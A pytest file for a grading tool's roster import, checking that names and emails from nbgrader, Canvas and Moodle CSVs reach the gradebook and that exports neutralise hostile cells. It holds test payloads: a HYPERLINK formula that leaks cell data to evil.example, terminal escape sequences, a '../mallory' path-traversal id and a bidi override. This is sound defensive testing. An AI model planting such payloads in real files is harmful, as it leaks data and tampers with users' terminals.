"""`python -m grader roster`: names and emails from a roster (nbgrader's, Canvas's, Moodle's)
into the gradebook, where autograde put each student with an id alone; then every export has
them, hostile cells neutralised, and the terminal never shows a raw control character.

The gradebook starts as autograde leaves it: an assignment and students known by id only
(built through nbgrader's API, no notebook executed). Every command runs as a subprocess, as an
instructor types it; every export is read back with the csv module.
"""

import csv
from datetime import datetime

import pytest

from grader.course import Course
from grader.nbgrader.roster import read
from tests.support.classes import add_assignment, add_submission, copy_of, new_gradebook
from tests.support.cli import grader
from tests.support.lms import canvas_gradebook

GRADEBOOK_STUDENTS = ("alice", "bob", "carol", "dave", "erin")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture(scope="module")
def autograded(tmp_path_factory) -> Course:
    """A gradebook as autograde leaves it: students with an id and nothing else."""
    with new_gradebook(tmp_path_factory.mktemp("roster")) as (course, gb):
        add_assignment(gb, "soft_select", [5], duedate=datetime(2026, 1, 1))
        for student in GRADEBOOK_STUDENTS:
            gb.add_student(student)
            add_submission(gb, "soft_select", student, [4], timestamp="2025-12-31 12:00:00")
    return course


@pytest.fixture
def course(autograded, tmp_path) -> Course:
    return copy_of(autograded, tmp_path)


def write_csv(path, rows, delimiter=","):
    with open(path, "w", newline="", encoding="utf-8") as f:
        csv.writer(f, delimiter=delimiter).writerows(rows)
    return path


def students(course) -> dict[str, tuple]:
    with course.gradebook() as gb:
        return {s.id: (s.first_name, s.last_name, s.email) for s in gb.students}


def exported(course, tmp_path, format) -> list[dict]:
    to = tmp_path / f"{format}.csv"
    done = grader("export", "--format", format, "--to", str(to), "--course", str(course.root),
                  cwd=tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    with open(to, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    return rows


def test_an_nbgrader_roster_fills_every_export_and_neutralises_hostile_cells(course, tmp_path):
    roster = write_csv(tmp_path / "roster.csv", [
        ["id", "first_name", "last_name", "email"],
        ["alice", HYPERLINK, "Liddell", "alice@example.org"],  # row 2: a formula for a name
        ["bob", "Bob", "Smith, Jr.", "+bob@example.org"],  # row 3: a comma; a formula-like email
        ["carol", "Car\nol", "Danvers", "carol@example.org"],  # row 4: a line break
        ["dave", "\x1b]0;pwned\x07\x1b[2JDave", "D", "dave@example.org"],  # row 5: escapes
        ["../mallory", "M", "M", "m@example.org"],  # row 6: not a student id
        ["frank", "Frank", "\u202eknarF", "frank@example.org"],  # row 7: a bidi override
        ["grace", "Grace", "Hopper", ""],  # row 8: new to the gradebook, no email
    ])
    done = grader("roster", str(roster), "--course", str(course.root), cwd=tmp_path)
    assert done.returncode == 1, done.stdout + done.stderr
    for text in (done.stdout, done.stderr):
        assert not any(ord(c) < 32 and c != "\n" or c == "\u202e" for c in text), \
            f"a raw control character reached the terminal: {text!r}"
    out = done.stdout
    assert "Roster " + str(roster) + " (nbgrader format): 1 added, 2 updated, 0 unchanged, " \
        "4 rejected." in out
    assert f"  alice        updated: Liddell, {HYPERLINK} <alice@example.org>" in out
    assert "  grace        added: Hopper, Grace" in out
    rejected = {line.split(":")[0].strip(): line for line in out.splitlines() if "REJECTED" in line}
    assert set(rejected) == {"row 4", "row 5", "row 6", "row 7"}
    assert "the first name of 'carol', 'Car\\nol', has a control character ('\\n')" in \
        rejected["row 4"]
    assert "'\\x1b]0;pwned\\x07\\x1b[2JDave'" in rejected["row 5"]
    assert "id '../mallory' is not a valid student id" in rejected["row 6"]
    assert "the last name of 'frank'" in rejected["row 7"] and "\\u202e" in rejected["row 7"]
    # Students on no roster row stay, and are named; rejected rows' students are on the roster.
    assert "warning: 1 student(s) in the gradebook are not on this roster (left as they are): " \
        "erin" in out
    assert done.stderr == "4 row(s) rejected: see their REJECTED lines above (exit status 1)\n"
    assert out.rstrip().endswith(f"Students in the gradebook ({course.root / 'gradebook.db'}); "
                                 "next: python -m grader export")

    stored = students(course)
    assert stored["alice"] == (HYPERLINK, "Liddell", "alice@example.org"), "stored as given"
    assert stored["bob"] == ("Bob", "Smith, Jr.", "+bob@example.org")
    assert stored["grace"] == ("Grace", "Hopper", None)
    assert stored["carol"] == stored["dave"] == stored["erin"] == (None, None, None)

    rows = {r["student_id"]: r for r in exported(course, tmp_path, "nbgrader")}
    assert (rows["alice"]["first_name"], rows["alice"]["last_name"],
            rows["alice"]["email"]) == ("'" + HYPERLINK, "Liddell", "alice@example.org")
    assert (rows["bob"]["last_name"], rows["bob"]["email"]) == ("Smith, Jr.", "'+bob@example.org")
    assert rows["grace"]["first_name"] == "Grace" and rows["grace"]["email"] == ""
    assert set(rows) == {*GRADEBOOK_STUDENTS, "grace"}, "one row per student, none added"

    canvas = {r["SIS Login ID"]: r for r in exported(course, tmp_path, "canvas")[1:]}
    assert canvas["alice"]["Student"] == f"Liddell, {HYPERLINK}"  # starts with a letter: as is
    assert canvas["bob"]["Student"] == "Smith, Jr., Bob"
    assert canvas["carol"]["Student"] == "carol"  # no name known: the id

    moodle = {r["Username"]: r for r in exported(course, tmp_path, "moodle")}
    assert moodle["alice"]["Email address"] == "alice@example.org"
    assert moodle["bob"]["Email address"] == "'+bob@example.org"

    # The same roster again: nothing changes, the same rows are rejected.
    again = grader("roster", str(roster), "--course", str(course.root), cwd=tmp_path)
    assert "0 added, 0 updated, 3 unchanged, 4 rejected." in again.stdout


def test_a_student_on_two_rows_is_refused_with_both_rows_named(course, tmp_path):
    roster = write_csv(tmp_path / "roster.csv", [
        ["id", "first_name", "last_name", "email"],
        ["alice", "Alice", "Liddell", "alice@example.org"],
        ["bob", "Bob", "Smith", "bob@example.org"],
        ["alice", "Alicia", "Liddell", "alicia@example.org"],
    ])
    done = grader("roster", str(roster), "--course", str(course.root), cwd=tmp_path)
    assert done.returncode == 1, done.stdout + done.stderr
    assert ("  row 2: REJECTED: student 'alice' is also on row 4: neither row is imported; keep "
            "one of them") in done.stdout
    assert ("  row 4: REJECTED: student 'alice' is also on row 2: neither row is imported; keep "
            "one of them") in done.stdout
    assert "0 added, 1 updated, 0 unchanged, 2 rejected." in done.stdout
    assert students(course)["alice"] == (None, None, None)
    assert students(course)["bob"] == ("Bob", "Smith", "bob@example.org")


def test_a_canvas_gradebook_export_gives_last_and_first_names(course, tmp_path):
    roster = canvas_gradebook(tmp_path / "canvas-roster.csv", [
        ["Liddell, Alice", "101", "S0001", "alice", "Section A"],
        ["Smith, Bob", "102", "bob", "", "Section B"],  # no SIS Login ID: the SIS User ID
        ["Danvers, Carol", "103", "S0003", "carol", "Section A"],
        ["Nobody, Nemo", "104", "", "", "Section A"],  # no login to find the student by
    ], encoding="utf-8")
    done = grader("roster", str(roster), "--course", str(course.root), cwd=tmp_path)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "(canvas format): 0 added, 3 updated, 0 unchanged, 1 rejected." in done.stdout
    assert ("  row 6: REJECTED: no SIS Login ID or SIS User ID for 'Nobody, Nemo': the "
            "student's login on the hub is not on this roster") in done.stdout
    assert "Points Possible" not in done.stdout and "Test" not in done.stdout
    assert "not on this roster (left as they are): dave, erin" in done.stdout
    stored = students(course)
    assert stored["alice"] == ("Alice", "Liddell", None)
    assert stored["bob"] == ("Bob", "Smith", None)

    assert stored["carol"] == ("Carol", "Danvers", None)
    canvas = {r["SIS Login ID"]: r for r in exported(course, tmp_path, "canvas")[1:]}
    assert canvas["alice"]["Student"] == "Liddell, Alice"
    assert canvas["bob"]["Student"] == "Smith, Bob"


def test_a_moodle_participants_download_gives_names_and_emails(course, tmp_path):
    # Moodle lets its user pick the separator; a semicolon here (as Excel writes in many
    # locales), and the older "Surname" for the last name.
    roster = write_csv(tmp_path / "courseid_42_participants.csv", [
        ["First name", "Surname", "Username", "Email address", "Roles", "Groups"],
        ["Alice", "Liddell", "alice", "alice@example.org", "Student", "A; B"],
        ["Bob", "Smith", "bob", "bob@example.org", "Student", ""],
        ["Teresa", "Teacher", "", "t@example.org", "Teacher", ""],  # no username
    ], delimiter=";")
    done = grader("roster", str(roster), "--format", "moodle", "--course", str(course.root),
                  cwd=tmp_path)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "(moodle format): 0 added, 2 updated, 0 unchanged, 1 rejected." in done.stdout
    assert "  row 4: REJECTED: no student id in Username" in done.stdout
    moodle = {r["Username"]: r for r in exported(course, tmp_path, "moodle")}
    assert moodle["alice"]["Email address"] == "alice@example.org"
    assert moodle["bob"]["Email address"] == "bob@example.org"
    assert moodle["carol"]["Email address"] == ""
    assert students(course)["alice"] == ("Alice", "Liddell", "alice@example.org")


def test_a_roster_that_is_not_one_stops_before_anything_is_written(course, tmp_path):
    before = (course.root / "gradebook.db").read_bytes()
    cases = {
        "missing.csv": (None, "error: no roster file "),
        "grades.csv": ([["name", "score"], ["alice", "3"]], "not a roster this command reads"),
        "latin1.csv": ("id,first_name\nalice,Ren\xe9e\n".encode("latin-1"), "is not UTF-8"),
    }
    for name, (content, message) in cases.items():
        if isinstance(content, bytes):
            (tmp_path / name).write_bytes(content)
        elif content is not None:
            write_csv(tmp_path / name, content)
        done = grader("roster", str(tmp_path / name), "--course", str(course.root),
                      cwd=tmp_path)
        assert done.returncode == 2, (name, done.stdout, done.stderr)
        assert done.stderr.startswith("error: ") and message in done.stderr, done.stderr
        assert done.stdout == ""
    done = grader("roster", str(write_csv(tmp_path / "n.csv", [["id"], ["alice"]])),
                  "--format", "canvas", "--course", str(course.root), cwd=tmp_path)
    assert done.returncode == 2
    assert "(canvas format): no column Student, SIS Login ID, SIS User ID; export it from " \
        "Canvas's gradebook" in done.stderr
    assert (course.root / "gradebook.db").read_bytes() == before


def test_what_each_format_reads(tmp_path):
    """The columns of each format, read without a gradebook."""
    nbgrader_roster = read(write_csv(tmp_path / "a.csv", [
        [" id ", "email", "lms_user_id"], ["alice", "", "lti-1"], ["", "x@y.z", ""],
        ["", "", ""]]))  # an empty row is no row
    assert nbgrader_roster.format == "nbgrader"
    assert [(e.row, e.id, e.fields) for e in nbgrader_roster.entries] == [
        (2, "alice", {"email": None, "lms_user_id": "lti-1"})]  # names left alone: no column
    assert nbgrader_roster.rejected == [(3, "no student id in id")]

    worksheet = read(write_csv(tmp_path / "b.csv", [
        ["Identifier", "Full name", "Username", "Email address", "Status", "Grade"],
        ["Participant 1", "Ada King-Noel", "ada", "ada@example.org", "Submitted", ""]]))
    assert worksheet.format == "moodle"
    assert worksheet.entries[0].fields == {"first_name": "Ada King-Noel",
                                           "email": "ada@example.org"}

    with pytest.raises(ValueError, match="has no students: only a header"):
        read(write_csv(tmp_path / "empty.csv", [["id", "first_name"]]))
    (tmp_path / "quotes.csv").write_bytes(b'id,first_name\nalice,"Al"ice\n')
    with pytest.raises(ValueError, match="row 2: not CSV as a spreadsheet writes it"):
        read(tmp_path / "quotes.csv")

    spread = read(write_csv(tmp_path / "c.csv", [
        ["id", "first_name"], ["alice", "Al\nice"], ["bob", "Bob"]]))
    assert spread.rejected[0][0] == 2, "a line break inside a cell is not a new row"
    assert [e.row for e in spread.entries] == [3]
